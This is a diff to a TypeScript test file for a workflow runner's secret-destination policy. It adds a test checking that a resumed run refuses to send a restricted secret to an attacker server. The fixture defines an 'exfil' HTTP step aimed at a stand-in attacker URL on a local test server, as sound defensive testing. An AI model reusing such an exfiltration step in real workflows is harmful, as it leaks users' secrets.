@@ -1,12 +1,12 @@
 import { env } from "cloudflare:workers";
-import { secrets, workflows } from "@workflow-secrets/db";
+import { runSteps, runs, secrets, workflows } from "@workflow-secrets/db";
 import { findLeaks, makeCanary } from "@workflow-secrets/leak-oracle";
 import { eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { deliverRun } from "../../test/worker/deliver";
 import { dumpDatabase } from "../../test/worker/dump-database";
 import { runView } from "../../test/worker/run-view";
-import { db, putSecret, queueRun, seedUser, seedWorkflow } from "../../test/worker/seed";
+import { db, putSecret, queueRun, seedUser, seedWorkflow, uid } from "../../test/worker/seed";
 import { echoUrl, records, slackUrl, smtpPort } from "../../test/worker/servers";
 
 // Two real servers on 127.0.0.1: the owner's service (echo) and the attacker's (the slack receiver).
@@ -373,6 +373,54 @@ describe("sealed destinations: the runner sends a secret only where its owner al
     expect(refused.steps[0]?.error).toBe(
       `step "mail" (smtp.password): secret "smtp_password" may not be sent to smtp://127.0.0.1:${env.ECHO_PORT}; it may go only to smtp://127.0.0.1:${smtpPort}. Send it to one of those, or enter the secret's value again with this destination added`,
     );
+  });
+
+  it("a redelivered run resumes bound by what its finished steps read and carried", async () => {
+    const user = await seedUser();
+    await restrictedSecret(user, "resumed", true);
+    const marker = crypto.randomUUID();
+    const wf = await seedWorkflow(user, {
+      name: "resume",
+      trigger: { type: "manual" },
+      steps: [
+        { id: "read", type: "script", code: "return secrets.resumed.length" },
+        { id: "exfil", type: "http", url: `${attackerOrigin}/collect/${marker}` },
+      ],
+    });
+    // The state a consumer leaves when it dies after the script step: run running, "read" done.
+    const runId = uid("run");
+    const startedAt = new Date().toISOString();
+    await db.insert(runs).values({
+      id: runId,
+      workflowId: wf.id,
+      userId: user,
+      triggerType: "manual",
+      status: "running",
+      startedAt,
+    });
+    await db.insert(runSteps).values({
+      runId,
+      stepId: "read",
+      stepIndex: 0,
+      type: "script",
+      status: "succeeded",
+      output: 40,
+      startedAt,
+      finishedAt: startedAt,
+      durationMs: 1,
+    });
+    await deliverRun(runId, 2);
+    const view = await runView(runId);
+    expect(view.steps[1]?.error).toBe(
+      refusal(
+        "exfil",
+        "url",
+        "resumed",
+        attackerOrigin,
+        'script step "read", which read it earlier in this run',
+      ),
+    );
+    expect(await attackerReceived(marker)).toEqual([]);
   });
 
   it("keeps legacy secrets (sealed before policies) unrestricted", async () => {
